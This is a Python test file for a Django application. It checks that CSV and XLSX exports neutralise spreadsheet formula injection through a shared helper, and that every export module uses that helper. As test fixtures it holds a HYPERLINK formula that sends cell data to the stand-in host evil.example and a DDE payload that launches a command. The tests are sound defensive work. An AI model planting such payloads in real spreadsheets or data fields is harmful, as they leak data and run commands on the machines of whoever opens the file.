"""Every CSV and XLSX export neutralises spreadsheet formulas through langso.core.exports."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from langso.core.exports import safe_cell, safe_row

LANGSO = Path(__file__).resolve().parents[2]
# Writes a bundled form template from constants, not anybody's data.
NOT_EXPORTS = {"engage/data/build_satisfaction_form.py"}
WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, None),
        ("", None),
        (0, 0),
        (-3, -3),
        (Decimal("-2.5"), Decimal("-2.5")),
        (date(2026, 1, 2), date(2026, 1, 2)),
        (True, 1),
        ("=1+2", "'=1+2"),
        ("-3", "'-3"),
        ("+84912345678", "'+84912345678"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=x", "'\t=x"),
        ("\uff1dcmd", "'\uff1dcmd"),
        ("Chè búp - loại 1", "Chè búp - loại 1"),
    ],
)
def test_a_cell_stays_empty_numeric_or_plain_unless_it_would_run_as_a_formula(value, cell):
    assert safe_cell(value) == cell


def test_a_csv_row_keeps_empty_cells_empty():
    assert safe_row(["=A1", None, "", 5], empty="") == ["'=A1", "", "", 5]


def test_every_module_that_writes_csv_or_xlsx_goes_through_the_shared_helper():
    writers = []
    for path in sorted(LANGSO.rglob("*.py")):
        rel = path.relative_to(LANGSO).as_posix()
        if "/tests/" in f"/{rel}" or rel == "core/exports.py" or rel in NOT_EXPORTS:
            continue
        text = path.read_text(encoding="utf-8")
        if WRITERS.search(text):
            writers.append(rel)
            assert "from langso.core.exports import" in text, rel
    # the exports known today, so that the scan above is known to find them
    assert {
        "economy/views/catalogue.py",
        "engage/exports.py",
        "monitor/reports.py",
        "procedures/exports.py",
        "documents/exports.py",
        "people/sheets.py",
    } <= set(writers)


@pytest.mark.django_db
def test_the_marketplace_feed_neutralises_a_formula_in_a_product_name(commune, hamlet):
    from langso.economy.models import Producer, Product

    producer = Producer.objects.create(
        name="@HTX", commune=commune, province_code="19", hamlet=hamlet
    )
    Product.objects.create(
        producer=producer,
        name='=HYPERLINK("http://evil.example/?"&A2,"Xem")',
        unit="kg",
        price=Decimal("350000"),
    )
    response = Client().get(f"/economy/feed.csv?commune={commune.code}")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Xem")'
    assert row["price"] == "350000"
    assert row["gtin"] == ""  # empty stays empty
    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())


@pytest.mark.django_db
def test_the_population_workbook_neutralises_formulas_and_keeps_numbers(leader, household):
    from langso.people.exports import export_population

    head = household.head
    head.full_name = "=cmd|' /C calc'!A0"
    head.phone = ""
    head.save(update_fields=["full_name", "phone"])
    content, count = export_population(user=leader, commune=household.commune)
    assert count == 1
    ws = load_workbook(io.BytesIO(content)).active
    row = [c.value for c in ws[2]]
    assert row[5] == "'=cmd|' /C calc'!A0"
    assert ws.cell(2, 6).data_type == "s"  # text, not a formula
    assert isinstance(row[3], float) and row[3] == pytest.approx(21.7101)
    assert row[9] is None  # the empty phone stays an empty cell
